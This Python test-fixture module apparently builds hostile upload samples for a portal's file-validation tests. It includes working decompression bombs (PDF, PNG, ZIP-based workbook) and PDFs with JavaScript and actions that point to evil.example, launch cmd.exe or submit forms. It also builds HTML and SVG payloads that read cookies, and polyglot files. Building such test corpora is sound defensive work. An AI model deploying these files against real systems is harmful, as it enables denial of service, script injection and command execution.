"""Hostile files, made in code for the upload corpus (tests/applications/test_upload_corpus.py).

Each builder returns bytes: PDFs with active content written by pypdf, compression bombs written byte by
byte (a ``/FlateDecode`` stream of zeros), polyglots, images with EXIF GPS, a ZIP bomb dressed as a workbook.
"""

import functools
import io
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

MB = 1024 * 1024


def deflated_zeros(size) -> bytes:
    """``size`` zero bytes (a whole number of MB) as one zlib stream at the best ratio (about 1:1000), made
    without deflating them all: one MB deflated and flushed (``Z_FULL_FLUSH`` leaves no history, so the
    same block inflates again after itself), repeated, then an empty final block and the checksum."""
    assert size % MB == 0
    packer = zlib.compressobj(9)
    block = packer.compress(bytes(MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    adler = ((size % 65521) << 16) | 1  # Adler-32 of zeros: a stays 1, b counts the bytes
    return block[:2] + block[2:] * (size // MB) + b"\x03\x00" + adler.to_bytes(4, "big")


def raw_pdf(objects, root=1) -> bytes:
    """A PDF of ``objects`` (bodies, numbered from 1) with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer << /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


def _stream(data, filters=b"/FlateDecode"):
    return b"<< /Length %d /Filter %s >>\nstream\n" % (len(data), filters) + data + b"\nendstream"


def bomb_pdf(inflated=200 * MB, where="fonts", copies=1) -> bytes:
    """A one-page PDF with a stream of ``inflated`` zeros: the page's text (a page with fonts), the
    content of a page without fonts, ``copies`` objects nothing uses, or deflated twice."""
    data = deflated_zeros(inflated)
    filters = b"/FlateDecode"
    if where == "twice":
        data, filters = zlib.compress(data, 9), b"[/FlateDecode /FlateDecode]"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
    page += b" /Resources << /Font << /F1 5 0 R >> >> >>" if where == "fonts" else b" >>"
    contents = _stream(data, filters) if where in ("fonts", "page", "twice") else _stream(zlib.compress(b"q Q"))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, contents,
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    if where == "unused":
        objects.extend(_stream(data) for _ in range(copies))
    return raw_pdf(objects)


def overlapping_streams_pdf(keywords=200) -> bytes:
    """A PDF whose ``stream`` keywords all start raw deflate data (stored blocks) that runs on through the
    same megabyte: read from each keyword, it would cost ``keywords`` MB of work for a 1 MB file."""
    import struct

    def stored(part, final=False):
        return (b"\x01" if final else b"\x00") + struct.pack("<HH", len(part), 0xFFFF ^ len(part)) + part

    chain = b"".join(stored(bytes(65_535)) for _ in range(16)) + stored(b"", final=True)
    region = b""
    for _ in range(keywords):  # each keyword's first block holds the later keywords, then the common chain
        region = b"stream\n" + stored(region)[:5] + region
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>",
                    b"<< >>\n" + region + chain])


@functools.cache
def big_bomb_pdf() -> bytes:
    """The issue's bomb: about 2 MB that inflate to 2 GB, on a page without fonts."""
    return bomb_pdf(2048 * MB, where="page")


def _written(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with(change=None) -> bytes:
    """A blank one-page PDF written by pypdf, after ``change(writer, page)``."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    if change:
        change(writer, page)
    return _written(writer)


def _action(kind, **entries):
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject("/" + key)] = value
    return action


def _annotate(writer, page, subtype, **entries):
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(200), FloatObject(80)])})
    for key, value in entries.items():
        annotation[NameObject("/" + key)] = value
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def open_action_js(writer, page):
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        _action("/JavaScript", JS=TextStringObject("app.launchURL('http://evil.example/')")))


def names_js(writer, page):
    action = writer._add_object(_action("/JavaScript", JS=TextStringObject("this.print({bUI: false});")))
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("print"), action])})})


def page_aa_js(writer, page):
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action(
        "/JavaScript", JS=TextStringObject("app.alert('opened')"))})


def launch(writer, page):
    _annotate(writer, page, "/Link", A=_action("/Launch", F=TextStringObject("cmd.exe")))


def uri(writer, page):
    _annotate(writer, page, "/Link", A=_action("/URI", URI=TextStringObject("http://evil.example/track")))


def submit_form(writer, page):
    writer._root_object[NameObject("/OpenAction")] = _action("/SubmitForm", F=TextStringObject("http://evil.example/"))


def embedded_exe(writer, page):
    writer.add_attachment("setup.exe", b"MZ\x90\x00\x03" + bytes(500))


def file_attachment(writer, page):
    embedded = DecodedStreamObject()
    embedded.set_data(b"attached notes")
    embedded[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("a.txt"),
                             NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)})})
    _annotate(writer, page, "/FileAttachment", FS=writer._add_object(spec))


def xfa(writer, page):
    form = DecodedStreamObject()
    form.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(form)})


def rich_media(writer, page):
    _annotate(writer, page, "/RichMedia", RichMediaContent=DictionaryObject({NameObject("/Assets"): DictionaryObject()}),
              NM=TextStringObject("movie"))


def go_to_remote(writer, page):
    _annotate(writer, page, "/Link", A=_action("/GoToR", F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
                                               D=ArrayObject([NumberObject(0), NameObject("/Fit")])))


def zip_polyglot() -> bytes:
    """A PDF that is also a ZIP archive (its directory at the end of the file)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.js", "WScript.Shell")
    return pdf_with() + archive.getvalue()


def html_polyglot() -> bytes:
    """A PDF whose first kilobyte is also an HTML page with a script (a browser sniffing it runs it)."""
    pdf = pdf_with()
    return pdf[:9] + b"%<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf[9:]


def prefixed_pdf() -> bytes:
    """A PDF after something else in the first kilobyte (readers accept it; the portal does not)."""
    return b"<!-- hello -->\n" + pdf_with()


def program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"This program cannot be run in DOS mode.\r\n$" + bytes(200)


def elf_program() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(300)


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"


def svg_image() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            b"<script>alert(document.domain)</script></svg>")


def docx_like() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return archive.getvalue()


def encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner")
    return _written(writer)


def truncated() -> bytes:
    data = pdf_with(lambda writer, page: writer.add_metadata({"/Title": "x" * 2000}))
    return data[:len(data) // 2]


def photo(exif_gps=True, orientation=1, size=(64, 32), kind="JPEG", text=None) -> bytes:
    """A photo with EXIF (GPS position, camera, orientation), as a JPEG or a PNG."""
    from PIL import Image, PngImagePlugin

    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((30, 30, 200), (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x0112] = orientation
    if exif_gps:
        exif[0x8825] = {1: "N", 2: (37.0, 30.0, 0.0), 3: "E", 4: (122.0, 7.0, 0.0)}  # near Weihai
    out = io.BytesIO()
    options = {"exif": exif.tobytes()}
    if text and kind == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", text)
        options["pnginfo"] = info
    image.save(out, format=kind, **options)
    return out.getvalue()


def png_bomb(width=30_000, height=30_000) -> bytes:
    """A PNG of some 100 KB announcing 30,000 × 30,000 pixels (1 bit each: 112 MB once decoded)."""
    import struct

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", deflated_zeros(108 * MB))
            + chunk(b"IEND", b""))


def zip_bomb_workbook(inflated=128 * MB) -> bytes:
    """An .xlsx whose sheet inflates to ``inflated`` bytes."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            zeros = bytes(MB)
            for _ in range(inflated // MB):
                sheet.write(zeros)
    return archive.getvalue()
